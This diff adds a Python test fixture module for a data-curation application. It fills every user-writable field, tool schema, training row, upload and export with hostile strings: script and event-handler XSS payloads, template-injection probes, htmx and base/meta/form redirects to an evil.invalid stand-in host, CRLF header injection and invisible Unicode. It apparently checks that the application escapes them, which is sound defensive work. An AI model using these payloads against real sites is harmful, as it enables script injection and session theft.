@@ -1,0 +1,145 @@
+"""A team all of whose texts are attacks: everything that a model, a data set or a person can write."""
+
+from __future__ import annotations
+
+import json
+import struct
+from pathlib import Path
+from typing import Any, NamedTuple
+
+from curation.models import Run, User
+from curation.models.exports import ExportKind
+from curation.models.people import Role
+from curation.stages import commenting, correcting, exporting, invitations, people, review, running, tokens, training, uploading
+from curation.stages.shards import Claim
+from tests.curation.stages.conftest import Hand, write_checkpoint
+from toolcalls.answers import Call
+from toolcalls.records import Message, Sample
+from toolcalls.rendering import render
+
+# `ran()` is a function of the test's own, and whatever becomes an element carries the attribute data-planted.
+ATTACKS = (
+    "<script data-planted>ran()</script>",
+    "</script><script data-planted>ran()</script>",
+    "\"><img data-planted src=x onerror=ran()>'><svg data-planted onload=ran()>",
+    '</textarea></title></style><iframe data-planted srcdoc="<script>parent.ran()</script>"></iframe>',
+    '<a data-planted href="javascript:ran()" autofocus onfocus=ran()>a link</a> javascript:ran()',
+    "planted{{7*7}} planted${7*7} planted<%= 7*7 %> planted#{7*7} {% debug %} {% csrf_token %}",
+    '<div data-planted hx-get="/account/" hx-trigger="load" hx-on::load="ran()" data-hx-on:click="ran()"></div>',
+    '<base data-planted href="//evil.invalid/"><meta data-planted http-equiv="refresh" content="0;url=//evil.invalid/">',
+    '<form data-planted action="//evil.invalid/"><input name=csrfmiddlewaretoken form=decide><!-- --!> ]]> <![CDATA[',
+    "\u202eright to left\u202c \u200bno\u200d \ufeffwidth\u2028ran()\u2029 `${ran()}` ';ran();//",
+    "one line\r\nSet-Cookie: planted=1\r\n\r\n<svg data-planted onload=ran()>",
+    "W" * 1500,
+)
+HOSTILE = " ".join(ATTACKS)
+BRIEF = "\"'><svg data-planted onload=ran()>"  # for categories and languages
+SHORT = "\"'></script><svg data-planted onload=ran()>planted{{7*7}}"  # for names: they are short, and one line
+
+
+class Planted(NamedTuple):
+    """The run, what its addresses name, and who is who."""
+
+    run: Run
+    names: dict[str, Any]
+    owner: User
+
+
+class HostileModel(Hand):
+    """Of four attempts one is the truth; the others are attacks as an argument, as prose and as a call that does not parse."""
+
+    def train(self, claim: Claim) -> None:
+        job = training.job(claim)
+        rows = [json.loads(line) for line in job.rows.read_bytes().splitlines()]
+        report = write_checkpoint(claim, job.out_dir, len(rows))
+        write_tokens(job.out_dir, rows)
+        training.publish(claim, job.out_dir, report)
+
+
+def write_tokens(folder: Path, rows: list[dict[str, Any]]) -> None:
+    """What the trainer leaves of every row's tokens."""
+    places, pieces = [], (HOSTILE, HOSTILE, "<end>")
+    with (folder / "rows.jsonl").open("wb") as file:
+        for row in rows:
+            places.append(file.tell())
+            line = {"sample_id": row["sample_id"], "kind": row["kind"], "label_span": [1, 3], "pieces": pieces}
+            file.write(json.dumps(line).encode() + b"\n")
+    (folder / "rows.index").write_bytes(struct.pack(f"<{len(places)}q", *places))
+
+
+def hostile_answer(iteration: int, sample: Sample, turn: int, attempt: int) -> str:
+    wrong = render([Call("get_weather", {"city": HOSTILE, "days": 2})])
+    learns = iteration == 1 and turn == 1 and sample.id.startswith("1")  # by the next one, so that the run goes on
+    truth = HOSTILE if learns or sample.truth is None else render(sample.truth)
+    return (wrong, truth, HOSTILE, f"[{SHORT}(city=")[attempt % 4]
+
+
+def hostile_tool(name: str = "get_weather", parameter: str = "city") -> dict[str, Any]:
+    city = {"type": "string", "description": HOSTILE, "default": HOSTILE}
+    properties = {parameter: city, "days": {"type": "integer"}, "unit": {"type": "string", "enum": ["C", HOSTILE]}}
+    parameters = {"type": "object", "properties": properties, "required": ["days"]}
+    return {"name": name, "description": HOSTILE, "parameters": parameters}
+
+
+def hostile_samples() -> list[Sample]:
+    """Two to train on that call a tool, one that calls nothing, and one held out; some tools' names match."""
+    said = (Message("user", HOSTILE), Message("assistant", HOSTILE), Message("user", f"{HOSTILE} again"))
+    strange = hostile_tool(SHORT, SHORT)
+    rows: list[dict[str, Any]] = [
+        {"tools": (hostile_tool(),), "truth": (Call("get_weather", {"city": HOSTILE, "days": 1}),)},
+        {"tools": (strange, hostile_tool()), "truth": (Call("get_weather", {"city": {SHORT: [HOSTILE]}, "days": 1}),)},
+        {"tools": (hostile_tool(), strange), "truth": None, "truth_text": HOSTILE},
+        {"tools": (hostile_tool(),), "truth": (Call("get_weather", {"city": HOSTILE, "days": 3}),), "split": "heldout"},
+    ]
+    common = {"messages": said, "category": BRIEF, "language": "\"'><a onclick=r>", "other": HOSTILE, "system": HOSTILE}
+    return [Sample(**{"id": f"{number}{SHORT}", **common, **row}) for number, row in enumerate(rows)]
+
+
+def plant(run: Run, hand: HostileModel) -> Planted:
+    """Work the run off to the review of its second iteration, and let people write in every field that they have."""
+    team = run.project.team
+    owner = people.create_user("planted@example.org", SHORT)
+    people.add_member(team, owner, Role.OWNER, None)
+    running.start_run(run)
+    hand.work_off()
+    first = run.iterations.get(number=1)
+    verdicts = list(first.pairs.select_related("version__sample").order_by("pk"))
+    sample = verdicts[0].version.sample
+    commenting.comment(run, sample, HOSTILE, owner)
+    decision = review.decide(run, first, sample, 0, "keep", owner, HOSTILE[:2000])
+    fixed = [{"name": "get_weather", "arguments": {"city": f"{HOSTILE} fixed", "days": 4}}]
+    correcting.fix_truth(run, first, sample, fixed, owner, HOSTILE[:2000])
+    review.approve(first, owner)
+    hand.work_off()
+    second = run.iterations.get(number=2)
+    for kind in ExportKind.values:
+        for _ in exporting.stream(exporting.begin(first, kind, "whetstone", None, owner)):
+            pass
+    running.pause_run(run, owner, HOSTILE[:500])
+    tokens.create(owner, SHORT, "read")
+    lines = [b"not JSON " + HOSTILE.encode() + b"\n", json.dumps({"messages": HOSTILE}).encode() + b"\n", _openai().encode()]
+    upload = uploading.receive(run.project, SHORT, f"{SHORT}.jsonl", lines, owner)
+    invitation, link = invitations.invite(team, Role.VIEWER, owner, SHORT)
+    names = {
+        "team": team.slug,
+        "project": run.project.slug,
+        "run": run.pk,
+        "number": second.number,
+        "dataset": run.dataset_id,
+        "revision": 1,
+        "sample": sample.pk,
+        "samples": [each.version.sample_id for each in verdicts],
+        "event": decision.made_by_id,
+        "upload": upload.pk,
+        "invitation": invitation.pk,
+        "link": link,
+        "export": first.exports.order_by("pk").values_list("pk", flat=True)[0],
+    }
+    return Planted(run, names, owner)
+
+
+def _openai() -> str:
+    """A row that another form of data sets has."""
+    called = {"type": "function", "function": {"name": "get_weather", "arguments": json.dumps({"city": HOSTILE, "days": 1})}}
+    messages = [{"role": "user", "content": HOSTILE}, {"role": "assistant", "tool_calls": [called]}]
+    return json.dumps({"messages": messages, "tools": [{"type": "function", "function": hostile_tool()}]}) + "\n"
